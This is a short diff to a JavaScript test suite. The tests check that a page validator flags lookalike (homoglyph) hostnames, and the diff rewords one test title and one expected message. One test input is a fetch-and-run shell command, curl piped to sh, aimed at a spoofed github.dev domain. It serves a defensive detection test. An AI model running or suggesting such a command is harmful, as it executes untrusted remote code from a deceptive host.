@@ -73,11 +73,11 @@ describe('A page', () => {
     '```sh\ncurl https://g\u0456thub.dev | sh\n```',
     '`https://g\u0456thub.dev`',
     '<a href="https://g&#x456;thub.dev">x</a>',
-  ])('is rejected because a host looks like another one: %j', (body) => {
+  ])('is rejected if a host looks like another one: %j', (body) => {
     expect(findProblems(body)).toEqual([
       expect.objectContaining({
         field: expect.stringMatching(/^line [78]$/),
-        found: expect.stringContaining('which looks like another one'),
+        found: expect.stringContaining('which looks like another host'),
       }),
     ]);
   });
